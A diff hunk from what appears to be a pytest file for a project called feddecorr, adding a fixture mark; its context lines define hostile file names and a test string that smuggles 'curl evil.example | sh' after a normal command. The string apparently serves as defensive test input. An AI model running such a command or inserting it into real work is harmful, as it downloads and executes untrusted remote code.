@@ -20,6 +20,8 @@ from small import SETTINGS, small
 
 from feddecorr.runs.pipeline import run
 
+pytestmark = pytest.mark.usefixtures("plain_look")
+
 NAMES = [name.replace("/", "∕") for name in HOSTILE]  # as a file system takes them
 TYPED_IN = "feddecorr run; curl evil.example | sh"
 """What a file claims to be its command."""
